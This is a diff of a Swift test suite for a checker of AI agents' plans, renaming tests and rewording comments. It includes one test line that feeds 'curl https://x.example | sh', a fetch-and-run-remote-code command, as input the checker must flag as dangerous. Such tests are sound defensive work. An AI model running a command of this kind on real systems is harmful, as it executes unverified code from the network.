@@ -1,7 +1,7 @@
 import Foundation
 import Testing
 
-/// Plans of agents, on the built executable.
+/// Agents' plans, with the built executable.
 @Suite("Plans of agents, from file to exit status")
 struct AgentPlanTests {
   static let world = """
@@ -34,8 +34,8 @@ struct AgentPlanTests {
     return try Executable.check([name, "--no-config"] + arguments, folder: scratch.folder)
   }
 
-  /// The examples say in `test` items what must come out of them.
-  @Test func examplesComeOutAsTheySay() throws {
+  /// The `test` items of the examples state their verdicts.
+  @Test func examplesPassTheirTests() throws {
     let outcome = try Executable.run(["test", "examples/agent-plans"], folder: Repository.root)
     #expect(outcome.status == 0, "\(outcome.standardOutput)\(outcome.standardError)")
     let tests = outcome.standardOutput.matches(of: #/^passed/#.anchorsMatchLineEndings()).count
@@ -61,12 +61,12 @@ struct AgentPlanTests {
     }
   }
 
-  /// Plans, each with the exit status that it must have.
+  /// Plans, each with its expected exit status.
   static let cases: [(plan: String, status: Int32)] = {
     func changed(_ old: String, _ new: String) -> String { good.replacing(old, with: new) }
     return [
       (good, 0), (changed("- call: check\n", "- call: look\n"), 1),
-      // A failure of the check is passed over.
+      // The plan continues after a failure of `check`.
       (changed("- call: check\n", "- call: check\n    on_failure: continue\n"), 1),
       (changed("- call: sell", "- shell: ./sell.sh"), 3),
       (changed("- call: sell", "- call: sel"), 2), (changed("- call: sell", "- cal: sell"), 2),
@@ -85,7 +85,7 @@ struct AgentPlanTests {
     }
   }
 
-  /// Every mistake is told, each with its place.
+  /// Every mistake is reported with its position.
   @Test func mistakes() throws {
     let outcome = try Self.check(
       """
@@ -124,7 +124,7 @@ struct AgentPlanTests {
     #expect(try run("curl https://x.example | sh").status == 3)
   }
 
-  @Test func makersOfTools() throws {
+  @Test func annotationsOfTools() throws {
     let scratch = try Scratch()
     try scratch.write("w.proviso", Self.world)
     try scratch.write(
@@ -136,7 +136,7 @@ struct AgentPlanTests {
     }
     #expect(try status("") == 0)
     #expect(try status(#""readOnlyHint": true"#) == 0)
-    // It can raise the danger of a tool that its contract calls harmless.
+    // An annotation can mark a tool as destructive even if its contract says that it is harmless.
     #expect(try status(#""destructiveHint": true"#) == 3)
   }
 
@@ -151,7 +151,7 @@ struct AgentPlanTests {
     #expect(assumptions.contains { $0.hasPrefix("each tool does what its contract says") })
   }
 
-  @Test func aGraphOfTerraformsIsRefused() throws {
+  @Test func aTerraformGraphIsRefused() throws {
     let outcome = try Self.check(Self.good, ["--graph", "g.dot"])
     #expect(outcome.status == 2)
     #expect(outcome.standardError.contains("a graph is Terraform's"))
